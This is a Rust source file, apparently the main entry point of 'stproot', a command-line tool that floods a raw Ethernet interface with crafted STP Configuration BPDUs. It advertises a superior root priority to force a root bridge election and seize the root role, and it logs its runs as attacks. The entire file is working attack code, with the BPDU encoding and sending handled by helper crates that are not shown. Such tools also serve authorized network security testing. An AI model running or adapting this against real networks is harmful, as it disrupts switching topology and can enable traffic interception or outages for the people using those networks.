//! stproot: STP root bridge claim over a raw Ethernet interface

use std::process::ExitCode;
use stproot_attack::{SessionSummary, StopReason, StopSignal, TransmitSession};
use stproot_cli::Cli;
use stproot_core::{Interface, Result};
use stproot_stp::{assemble_frame, constants::STP_MULTICAST_MAC, encode_config_bpdu};
use tracing::{debug, error, info, warn};

const BANNER: &str = r"
  ___ _____ ___   ___  ___   ___ _____
 / __|_   _| _ \ | _ \/ _ \ / _ \_   _|
 \__ \ | | |  _/ |   / (_) | (_) || |
 |___/ |_| |_|   |_|_\\___/ \___/ |_|

        [ STP CLAIM ROOT BRIDGE ]
";

#[tokio::main(flavor = "current_thread")]
async fn main() -> ExitCode {
    let cli = Cli::parse_args();

    let level = if cli.debug {
        tracing::Level::DEBUG
    } else {
        tracing::Level::INFO
    };
    tracing_subscriber::fmt()
        .with_max_level(level)
        .with_ansi(!cli.no_color)
        .with_target(false)
        .init();

    match run(&cli).await {
        Ok(summary) => {
            report(&summary);
            if summary.is_success() {
                ExitCode::SUCCESS
            } else {
                ExitCode::FAILURE
            }
        }
        Err(e) => {
            error!("{}", e);
            ExitCode::FAILURE
        }
    }
}

async fn run(cli: &Cli) -> Result<SessionSummary> {
    let stop = StopSignal::new();
    let listener = stop.listen_for_ctrl_c().await;

    let summary = transmit(cli, stop).await;
    listener.abort();
    summary
}

async fn transmit(cli: &Cli, stop: StopSignal) -> Result<SessionSummary> {
    let config = cli.session_config()?;
    let interface = Interface::by_name(&cli.interface)?;
    let params = cli.bpdu_parameters(interface.mac_address)?;

    println!("{}", BANNER);
    info!("Interface       : {}", interface.name);
    info!("Source MAC      : {}", interface.mac_address);
    warn!("Root Priority   : {}", params.root_priority());
    info!("Bridge Priority : {}", params.bridge_priority());
    info!("Port ID         : 0x{:04x}", params.port_id());
    info!("Hello Time      : {}s", params.hello_time());
    info!("Max Age         : {}s", params.max_age());
    info!("Forward Delay   : {}s", params.forward_delay());
    match config.count {
        Some(count) => info!("Packets         : {}", count),
        None => info!("Packets         : unbounded"),
    }
    if !interface.is_up {
        warn!(interface = %interface.name, "Interface is down");
    }

    let frame = assemble_frame(interface.mac_address, encode_config_bpdu(&params));
    debug!(
        root = %frame.bpdu.root_id,
        bridge = %frame.bpdu.bridge_id,
        claims_root = frame.bpdu.claims_root(),
        "Frame assembled"
    );

    let sender = interface.open_sender()?;
    // Deliver an interrupt that arrived during setup before the first send
    tokio::task::yield_now().await;

    warn!(
        "Sending Configuration BPDUs to {} with root priority {}, forcing a root bridge election",
        STP_MULTICAST_MAC,
        params.root_priority()
    );

    let mut session = TransmitSession::new(sender, frame, config, stop)?;
    Ok(session.run().await)
}

fn report(summary: &SessionSummary) {
    match &summary.reason {
        StopReason::Completed => info!("Attack finished"),
        StopReason::Interrupted => warn!("Attack stopped"),
        StopReason::Failed(e) => error!(error = %e, "Attack aborted"),
    }
    info!(
        "{} BPDUs ({} bytes) in {:.1}s, {:.1} pkt/s",
        summary.sent,
        summary.bytes_sent,
        summary.elapsed.as_secs_f64(),
        summary.rate()
    );
}
